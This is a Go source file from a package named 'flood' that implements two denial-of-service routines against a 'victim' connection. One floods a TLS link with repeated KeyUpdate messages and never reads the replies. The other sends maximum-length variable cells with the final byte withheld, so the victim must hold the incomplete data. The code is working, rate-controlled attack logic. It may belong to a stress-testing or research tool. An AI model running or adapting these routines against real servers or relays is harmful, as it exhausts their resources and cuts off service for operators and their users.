package flood

import (
	"context"
	"encoding/binary"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/fault"
)

// updatesPerCell is how many KeyUpdates are sent between two cells: TLS
// implementations close a connection on which many such messages come without
// data.
const updatesPerCell = 8

// keyUpdates changes the keys again and again, asks the victim to do so, too,
// and does not read the answers.
func keyUpdates(ctx context.Context, a *attack) error {
	padding := cell.AppendVar(nil, 0, cell.CmdVPadding, nil)
	return a.links(ctx, func(ctx context.Context, l *link) (err error) {
		l.conn.Shut()
		var buf []byte
		for a.rate.take(ctx, updatesPerCell) {
			buf = l.out.seal(buf[:0], recordApplication, padding)
			for range updatesPerCell {
				if buf, err = l.out.update(buf); err != nil {
					return err
				}
			}
			if _, err := l.conn.Write(buf); err != nil {
				return fault.Wrap(fault.Network, err)
			}
			a.sent.Add(updatesPerCell)
		}
		return context.Cause(ctx)
	})
}

// varCells sends cells of the maximum length without their last byte, and waits:
// the victim must keep the incomplete cells.
func varCells(ctx context.Context, a *attack) error {
	whole := binary.BigEndian.AppendUint16([]byte{0, 0, 0, 0, byte(cell.CmdVPadding)}, 0xffff)
	whole = append(whole, make([]byte, 0xffff-1)...)
	return a.links(ctx, func(ctx context.Context, l *link) error {
		if !a.rate.take(ctx, 1) {
			return context.Cause(ctx)
		}
		if err := l.write(whole); err != nil {
			return err
		}
		a.sent.Add(1)
		<-l.drop()
		return errEnded
	})
}

// errEnded says that the victim ended a connection that waited.
var errEnded = fault.New(fault.Network, "the victim ended the connection")
